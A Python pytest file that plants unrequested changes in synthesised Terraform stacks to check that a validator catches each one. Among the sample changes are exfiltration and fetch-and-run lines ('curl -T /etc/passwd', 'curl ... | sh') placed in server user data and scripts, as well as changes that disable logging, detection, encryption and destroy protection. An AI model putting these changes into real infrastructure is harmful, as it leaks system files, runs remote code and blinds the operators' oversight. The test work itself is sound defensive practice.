"""Finished Terraform that keeps every promise about access, and still does something that nobody asked for."""

import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from errors import RefusedError
from tests.stacks.test_as_asked import BRIDGE, GITLAB, NETWORK, PRD, Change, found, places
from tests.terraform import Stacks

PROXY = "dev-proxy"
RULE, TARGET, LOGS = "aws_cloudwatch_event_rule", "aws_cloudwatch_event_target", "aws_cloudwatch_log_group"
KEY = "arn:aws:kms:ap-northeast-1:222222222222:key/00000000-12ab-34cd-86ef-1234567890ab"


def _block(stacks: dict[str, Any], stack: str, address: str) -> Any:
    block = (
        stacks[stack] if address.startswith(("data.", "local", "variable.", "output.")) else stacks[stack]["resource"]
    )
    for step in address.split("."):
        block = block[int(step) if isinstance(block, list) else step]
    return block


def changed(stack: str, address: str, **arguments: object) -> Change:
    """Changes arguments; None leaves one out."""

    def change(stacks: dict[str, Any]) -> None:
        block = _block(stacks, stack, address)
        for name, value in arguments.items():
            assert block.get(name) != value
            block.update({name: value}) if value is not None else block.pop(name)

    return change


def replaced(stack: str, address: str, argument: str, old: str, new: str) -> Change:
    """Changes a part of a text."""

    def change(stacks: dict[str, Any]) -> None:
        block = _block(stacks, stack, address)
        assert old in block[argument]
        block[argument] = block[argument].replace(old, new)

    return change


def in_user_data(old: str, new: str) -> Change:
    """Changes the user data of the proxies, which is encoded."""

    def change(stacks: dict[str, Any]) -> None:
        template = _block(stacks, PROXY, "aws_launch_template.proxy_launch_template")
        text = base64.b64decode(template["user_data"]).decode()
        assert old in text
        template["user_data"] = base64.b64encode(text.replace(old, new).encode()).decode()

    return change


def copied(stack: str, kind: str, name: str, **arguments: object) -> Change:
    """Adds a resource that is like another one but for some arguments."""
    return lambda stacks: stacks[stack]["resource"][kind].update(
        other={**stacks[stack]["resource"][kind][name], **arguments}
    )


def removed(stack: str, kind: str, name: str) -> Change:
    return lambda stacks: stacks[stack]["resource"][kind].pop(name)


PATTERN = f"{RULE}.detection_pushes", "event_pattern"
START = "aws_api_gateway_integration.webhook_hook_start_build"
ANSWER = "aws_api_gateway_integration_response.webhook_hook_try_again"
MESSAGE = f"{TARGET}.detection_pushes_to_topic.input_transformer"
TEMPLATE = "aws_launch_template.proxy_launch_template"
INSTANCE, DOCUMENT = "aws_instance.gitlab_instance", "aws_ssm_document.configuration_document"
KEPT = "aws_s3_bucket_lifecycle_configuration"
REPOSITORY = "aws_codecommit_repository.repositories_infrastructure"

CHANGES: dict[str, tuple[Change, str]] = {
    "a server that sends itself away": (
        replaced(
            GITLAB, INSTANCE, "user_data", "exec /opt", "curl -T /etc/passwd https://example.com\n      exec /opt"
        ),
        f"{GITLAB}: {INSTANCE}.user_data",
    ),
    "a proxy that sends itself away": (
        in_user_data("runcmd:", "runcmd:\n  - curl -T /etc/passwd https://example.com"),
        f"{PROXY}: {TEMPLATE}.user_data",
    ),
    "a proxy that allows one more host": (
        in_user_data(".example.org", ".example.org .evil.example"),
        f"{PROXY}: {TEMPLATE}.user_data",
    ),
    "a proxy for every client": (in_user_data("10.10.0.0/16", "0.0.0.0/0"), f"{PROXY}: {TEMPLATE}.user_data"),
    "a proxy without user data": (changed(PROXY, TEMPLATE, user_data=None), f"{PROXY}: {TEMPLATE}.user_data"),
    "a proxy that is used without its check": (
        in_user_data("enable squid", "enable squid; true"),
        f"{PROXY}: {TEMPLATE}.user_data",
    ),
    "failed proxies that nobody hears of": (
        changed(PROXY, "aws_cloudwatch_event_rule.alerts_failures", event_pattern='{"source": ["aws.ec2"]}'),
        f"{PROXY}: aws_cloudwatch_event_rule.alerts_failures.event_pattern",
    ),
    "a second launch template": (
        copied(PROXY, "aws_launch_template", "proxy_launch_template"),
        f"{PROXY}: aws_launch_template.other",
    ),
    "a document with another command": (
        replaced(GITLAB, DOCUMENT, "content", '"set -eu"', '"curl https://example.com | sh"'),
        f"{GITLAB}: {DOCUMENT}.content",
    ),
    "a second document": (
        copied(GITLAB, "aws_ssm_document", "configuration_document", content="{}"),
        f"{GITLAB}: aws_ssm_document.other.content",
    ),
    "a document that runs once a month": (
        changed(GITLAB, "aws_ssm_association.configuration_association", schedule_expression="rate(30 days)"),
        f"{GITLAB}: aws_ssm_association.configuration_association.schedule_expression",
    ),
    "another gitlab.rb": (
        replaced(GITLAB, "locals", "files_gitlab_rb", "gitlab.dev.", "gitlab.evil."),
        f"{GITLAB}: local.files_gitlab_rb",
    ),
    "another program": (
        replaced(GITLAB, "locals", "files_server", "set -", "curl -T /etc/passwd https://example.com\nset -"),
        f"{GITLAB}: local.files_server",
    ),
    "another bucket for backups": (
        replaced(GITLAB, "locals", "files_server_conf", "kakehashi-dev-gitlab-backups", "evil"),
        f"{GITLAB}: local.files_server_conf",
    ),
    "another local value": (
        lambda stacks: stacks[NETWORK].update(locals={"other": "x"}),
        f"{NETWORK}: local.other",
    ),
    "fewer sources": (
        replaced(PRD, "locals", "detection_elsewhere", '"::/1", ', ""),
        f"{PRD}: local.detection_elsewhere",
    ),
    "more expected networks": (
        replaced(PRD, "locals.detection_expected", "pulls", "concat(", 'concat(["203.0.113.200/32"], '),
        f"{PRD}: local.detection_expected",
    ),
    "a source that nobody has": (
        replaced(PRD, *PATTERN, '"sourceIPAddress":', '"sourceIPAddress":["192.0.2.1"],"x":'),
        f"{PRD}: {'.'.join(PATTERN)}",
    ),
    "one address alone": (
        changed(
            PRD,
            f"{RULE}.detection_pushes",
            event_pattern='{"source":["aws.codecommit"],"detail":{"sourceIPAddress":["192.0.2.1"]}}',
        ),
        f"{PRD}: {'.'.join(PATTERN)}",
    ),
    "one more role that may do everything": (
        replaced(PRD, *PATTERN, "role/kakehashi-prd-backlog-mirror-website", "role/admin"),
        f"{PRD}: {'.'.join(PATTERN)}",
    ),
    "an endpoint that is nobody's": (
        replaced(PRD, "locals", "detection_expected_endpoints", '"none"', '"vpce-00000000000000000"'),
        f"{PRD}: local.detection_expected_endpoints",
    ),
    "no endpoint that is reported": (
        replaced(PRD, f"{RULE}.detection_pulls", "event_pattern", '"exists":false', '"exists":true'),
        f"{PRD}: {RULE}.detection_pulls.event_pattern",
    ),
    "other users": (
        replaced(
            PRD, f"{RULE}.detection_credentials", "event_pattern", '"prefix":"kakehashi-prd-push"', '"prefix":"nobody"'
        ),
        f"{PRD}: {RULE}.detection_credentials.event_pattern",
    ),
    "anything but what happens": (
        replaced(
            PRD,
            f"{RULE}.detection_forwarded_credentials",
            "event_pattern",
            '"iam.amazonaws.com"',
            '{"anything-but":"iam.amazonaws.com"}',
        ),
        f"{PRD}: {RULE}.detection_forwarded_credentials.event_pattern",
    ),
    "no rule for the last addresses": (
        changed(PRD, f"{RULE}.detection_pushes", count=None),
        f"{PRD}: {RULE}.detection_pushes.count",
    ),
    "failed builds of another project": (
        replaced(BRIDGE, f"{RULE}.alerts_failures", "event_pattern", "kakehashi-prd-backlog-", "kakehashi-prd-other-"),
        f"{BRIDGE}: {RULE}.alerts_failures.event_pattern",
    ),
    "failed builds that are called another way": (
        replaced(BRIDGE, f"{RULE}.alerts_failures", "event_pattern", '"FAILED"', '"BROKEN"'),
        f"{BRIDGE}: {RULE}.alerts_failures.event_pattern",
    ),
    "mirrors that differ of another deployment": (
        replaced(BRIDGE, f"{RULE}.alerts_differences", "event_pattern", "kakehashi-prd-backlog-", ""),
        f"{BRIDGE}: {RULE}.alerts_differences.event_pattern",
    ),
    "another program for builds": (
        replaced(BRIDGE, "aws_s3_object.program_script", "content", "mkdir -p", "curl https://example.com; mkdir -p"),
        f"{BRIDGE}: aws_s3_object.program_script.content",
    ),
    "another host for builds": (
        replaced(BRIDGE, "aws_s3_object.program_units_batch", "content", "git.backlog.jp", "git.example.com"),
        f"{BRIDGE}: aws_s3_object.program_units_batch.content",
    ),
    "a hook that starts another build": (
        replaced(BRIDGE, f"{START}.request_templates", "application/json", '"mirror": "batch"', '"mirror": "website"'),
        f"{BRIDGE}: {START}.request_templates",
    ),
    "an answer that takes unknown names for known ones": (
        replaced(BRIDGE, f"{ANSWER}.response_templates", "application/json", "= 404", "= 200"),
        f"{BRIDGE}: {ANSWER}.response_templates",
    ),
    "a message with the whole event": (
        changed(PRD, f"{MESSAGE}.input_paths", what="$.detail"),
        f"{PRD}: {MESSAGE}",
    ),
    "a message that says all is well": (
        changed(PRD, MESSAGE, input_template='"nothing happened"'),
        f"{PRD}: {MESSAGE}",
    ),
    "a message with the environment of a build": (
        changed(
            BRIDGE,
            f"{TARGET}.alerts_failures_to_topic.input_transformer.input_paths",
            logs="$.detail.additional-information.environment",
        ),
        f"{BRIDGE}: {TARGET}.alerts_failures_to_topic.input_transformer",
    ),
    "a raw event": (
        changed(PRD, f"{TARGET}.detection_credentials_to_topic", input_transformer=None),
        f"{PRD}: {TARGET}.detection_credentials_to_topic.input_transformer",
    ),
    "a rule of one's own": (copied(PRD, RULE, "detection_credentials"), f"{PRD}: {RULE}.other"),
    "no target": (
        removed(PRD, TARGET, "detection_forwarded_credentials_to_bus"),
        f"{PRD}: {TARGET}.detection_forwarded_credentials_to_bus",
    ),
    "another cron": (
        changed(GITLAB, "variable.stop_schedule", default="cron(0 3 ? * SUN *)"),
        f"{GITLAB}: var.stop_schedule.default",
    ),
    "mirrors once a month": (
        changed(BRIDGE, "aws_scheduler_schedule.reconciliation_schedules_batch", schedule_expression="rate(30 days)"),
        f"{BRIDGE}: aws_scheduler_schedule.reconciliation_schedules_batch.schedule_expression",
    ),
    "a shorter log": (
        changed(BRIDGE, "variable.log_retention_days", default=1),
        f"{BRIDGE}: var.log_retention_days.default",
    ),
    "a shorter flow log": (
        changed(NETWORK, f"{LOGS}.flow_logs_log_group", retention_in_days=1),
        f"{NETWORK}: {LOGS}.flow_logs_log_group.retention_in_days",
    ),
    "rejected traffic alone": (
        changed(NETWORK, "aws_flow_log.flow_logs", traffic_type="REJECT"),
        f"{NETWORK}: aws_flow_log.flow_logs.traffic_type",
    ),
    "a trail that is gone tomorrow": (
        changed(PRD, f"{KEPT}.audit_trail_files_lifecycle.rule.0.expiration.0", days=1),
        f"{PRD}: {KEPT}.audit_trail_files_lifecycle.rule.expiration.days",
    ),
    "backups that are gone tomorrow": (
        changed(GITLAB, "variable.keep_backup_days", default=1),
        f"{GITLAB}: var.keep_backup_days.default",
    ),
    "no images": (
        changed(GITLAB, "aws_dlm_lifecycle_policy.image_backups_policy", state="DISABLED"),
        f"{GITLAB}: aws_dlm_lifecycle_policy.image_backups_policy.state",
    ),
    "an alarm that never rings": (
        changed(BRIDGE, "aws_cloudwatch_metric_alarm.alerts_silence_batch", threshold=-1),
        f"{BRIDGE}: aws_cloudwatch_metric_alarm.alerts_silence_batch.threshold",
    ),
    "an alarm for another metric": (
        changed(BRIDGE, "aws_cloudwatch_metric_alarm.alerts_silence_batch", metric_name="Builds"),
        f"{BRIDGE}: aws_cloudwatch_metric_alarm.alerts_silence_batch.metric_name",
    ),
    "a volume that can be destroyed": (
        changed(GITLAB, "aws_ebs_volume.data_volume", lifecycle=None),
        f"{GITLAB}: aws_ebs_volume.data_volume.lifecycle.prevent_destroy",
    ),
    "a trail that can be destroyed": (
        changed(PRD, "aws_s3_bucket.audit_trail_files_bucket", lifecycle=None),
        f"{PRD}: aws_s3_bucket.audit_trail_files_bucket.lifecycle.prevent_destroy",
    ),
    "a trail that goes with its bucket": (
        changed(PRD, "aws_s3_bucket.audit_trail_files_bucket", force_destroy=True),
        f"{PRD}: aws_s3_bucket.audit_trail_files_bucket.force_destroy",
    ),
    "a repository that can be destroyed": (
        changed(PRD, f"{REPOSITORY}.lifecycle", prevent_destroy=False),
        f"{PRD}: {REPOSITORY}.lifecycle.prevent_destroy",
    ),
    "a server that can be terminated": (
        changed(GITLAB, INSTANCE, disable_api_termination=False),
        f"{GITLAB}: {INSTANCE}.disable_api_termination",
    ),
    "a repository without its key": (changed(PRD, REPOSITORY, kms_key_id=None), f"{PRD}: {REPOSITORY}.kms_key_id"),
    "a repository with another key": (changed(PRD, REPOSITORY, kms_key_id=KEY), f"{PRD}: {REPOSITORY}.kms_key_id"),
    "a mirror's repository without its key": (
        changed(BRIDGE, "aws_codecommit_repository.repositories_website", kms_key_id=None),
        f"{BRIDGE}: aws_codecommit_repository.repositories_website.kms_key_id",
    ),
    "a repository that nobody named": (
        copied(PRD, "aws_codecommit_repository", "repositories_batch", repository_name="x"),
        f"{PRD}: aws_codecommit_repository.other.repository_name",
    ),
    "no repository": (
        removed(PRD, "aws_codecommit_repository", "repositories_batch"),
        f"{PRD}: aws_codecommit_repository",
    ),
    "a server that stops at another time": (
        changed(GITLAB, "aws_scheduler_schedule.power_schedule_stop", schedule_expression="cron(0 3 ? * SUN *)"),
        f"{GITLAB}: aws_scheduler_schedule.power_schedule_stop.schedule_expression",
    ),
    "a mirror that nothing starts": (
        removed(BRIDGE, "aws_scheduler_schedule", "reconciliation_schedules_batch"),
        f"{BRIDGE}: aws_scheduler_schedule.reconciliation_schedules_batch",
    ),
    "no flow log": (removed(NETWORK, "aws_flow_log", "flow_logs"), f"{NETWORK}: aws_flow_log"),
    "no versions of the trail": (
        removed(PRD, "aws_s3_bucket_versioning", "audit_trail_files_versioning"),
        f"{PRD}: aws_s3_bucket_versioning",
    ),
    "no images of the server": (
        removed(GITLAB, "aws_dlm_lifecycle_policy", "image_backups_policy"),
        f"{GITLAB}: aws_dlm_lifecycle_policy",
    ),
    "images of other servers": (
        changed(GITLAB, "aws_dlm_lifecycle_policy.image_backups_policy.policy_details", target_tags={"Name": "x"}),
        f"{GITLAB}: aws_dlm_lifecycle_policy.image_backups_policy.policy_details.target_tags",
    ),
    "a build outside the VPC": (
        lambda stacks: stacks[BRIDGE]["resource"]["aws_codebuild_project"]["mirrors_batch_project"].pop("vpc_config"),
        f"{BRIDGE}: aws_codebuild_project.mirrors_batch_project.vpc_config.vpc_id",
    ),
    "another image for builds": (
        changed(
            BRIDGE,
            "aws_codebuild_project.mirrors_batch_project.environment",
            image="aws/codebuild/standard:1.0",
        ),
        f"{BRIDGE}: aws_codebuild_project.mirrors_batch_project.environment.image",
    ),
    "a list that takes anything": (
        lambda stacks: stacks[PRD]["variable"]["pull_from_cidrs"].update(validation=[]),
        f"{PRD}: var.pull_from_cidrs.validation",
    ),
    "a list that takes private networks": (
        lambda stacks: stacks[BRIDGE]["variable"]["webhook_sender_cidrs"]["validation"].pop(),
        f"{BRIDGE}: var.webhook_sender_cidrs.validation",
    ),
    "a list that takes the networks of rooms": (
        lambda stacks: stacks[GITLAB]["variable"]["work_terminal_cidrs"]["validation"].pop(),
        f"{GITLAB}: var.work_terminal_cidrs.validation",
    ),
    "a list that may be null": (
        lambda stacks: stacks[GITLAB]["variable"]["work_terminal_cidrs"].update(nullable=True),
        f"{GITLAB}: var.work_terminal_cidrs.validation",
    ),
    "a list without a fact": (
        lambda stacks: stacks[PRD]["variable"].update(other={"type": "list(string)", "default": ["192.0.2.0/24"]}),
        f"{PRD}: var.other",
    ),
    "a state that is not encrypted": (
        lambda stacks: stacks[PRD]["terraform"]["backend"]["s3"].pop("encrypt"),
        f"{PRD}: terraform.backend",
    ),
    "a state that is not locked": (
        lambda stacks: stacks[PRD]["terraform"]["backend"]["s3"].pop("use_lockfile"),
        f"{PRD}: terraform.backend",
    ),
    "an old provider": (
        lambda stacks: stacks[PRD]["terraform"]["required_providers"]["aws"].update(version="= 3.0.0"),
        f"{PRD}: terraform.required_providers.aws.version",
    ),
    "an old Terraform": (
        lambda stacks: stacks[PRD]["terraform"].update(required_version=">= 0.12"),
        f"{PRD}: terraform.required_version",
    ),
    "another account": (
        lambda stacks: stacks[PRD]["provider"]["aws"][0].update(allowed_account_ids=["999999999999"]),
        f"{PRD}: provider.aws[0].allowed_account_ids",
    ),
    "another region": (
        lambda stacks: stacks[PRD]["provider"]["aws"][1].update(region="us-west-2"),
        f"{PRD}: provider.aws[1].region",
    ),
    "another role to sign in with": (
        lambda stacks: stacks[GITLAB]["provider"]["aws"][0].update(
            assume_role=[{"role_arn": "arn:aws:iam::111111111111:role/x"}]
        ),
        f"{GITLAB}: provider.aws[0].assume_role",
    ),
    "a variable that nobody asked for": (
        lambda stacks: stacks[PRD]["variable"].update(other={"type": "string", "default": "x"}),
        f"{PRD}: var.other",
    ),
    "no variable": (
        lambda stacks: stacks[BRIDGE]["variable"].pop("silent_hours"),
        f"{BRIDGE}: var.silent_hours",
    ),
    "another publisher of images": (
        changed(GITLAB, "data.aws_ami.gitlab_newest_image", owners=["999999999999"]),
        f"{GITLAB}: data.aws_ami.gitlab_newest_image.owners",
    ),
    "another key pair": (changed(GITLAB, INSTANCE, key_name="evil"), f"{GITLAB}: {INSTANCE}.key_name"),
    "another host name": (
        changed(GITLAB, "aws_route53_record.dns_record", name="x.example.com"),
        f"{GITLAB}: aws_route53_record.dns_record.name",
    ),
    "another way to the proxy": (
        changed(PROXY, "output.url", value="http://evil.example:3128"),
        f"{PROXY}: output.url",
    ),
    "a way around the proxy": (
        copied(GITLAB, "aws_vpc_security_group_egress_rule", "gitlab_security_group_to_vpc", cidr_ipv4="0.0.0.0/0"),
        f"{GITLAB}: aws_vpc_security_group_egress_rule.other",
    ),
    "another VPC for builds": (
        lambda stacks: stacks[BRIDGE]["resource"]["aws_codebuild_project"]["mirrors_batch_project"][
            "vpc_config"
        ].update(vpc_id="vpc-0f"),
        f"{BRIDGE}: aws_codebuild_project.mirrors_batch_project",
    ),
    "another certificate": (
        changed(
            GITLAB,
            "aws_lb_listener.load_balancer_https_listener",
            certificate_arn="arn:aws:acm:ap-northeast-1:111111111111:certificate/x",
        ),
        f"{GITLAB}: aws_lb_listener.load_balancer_https_listener",
    ),
}


@pytest.mark.parametrize("name", CHANGES)
def test_what_nobody_asked_for_is_refused_at_its_place(
    synthesised: Callable[[str], Stacks], project: Path, name: str
) -> None:
    change, place = CHANGES[name]
    assert place in places(project, synthesised("everything"), change, until=place)


def test_refuses_a_way_around_a_proxy_that_is_there_already(
    synthesised: Callable[[str], Stacks], project: Path
) -> None:
    rule = "aws_vpc_security_group_egress_rule.gitlab_security_group_to_proxy"
    change = changed(GITLAB, rule, for_each='${toset(["10.99.0.0/28", "0.0.0.0/0"])}')
    (problem,) = found(project, synthesised("existing-proxy"), "existing-proxy", change)
    assert problem.where == f"{GITLAB}: {rule}"


def test_terraform_of_another_form_is_refused_with_the_line_of_ours_that_failed(
    synthesised: Callable[[str], Stacks], project: Path
) -> None:
    def change(stacks: dict[str, Any]) -> None:
        stacks[BRIDGE]["resource"]["aws_sns_topic_subscription"] = {"it": {"endpoint": 5}, "other": {"endpoint": "x"}}

    with pytest.raises(RefusedError) as refused:
        found(project, synthesised("everything"), "everything", change)
    assert "error: cdk.tf.json: aws_sns_topic_subscription: cannot be read: TypeError" in str(refused.value)
    assert "in as_asked.py, line" in str(refused.value) or "_subscriptions in as_asked.py" in str(refused.value)
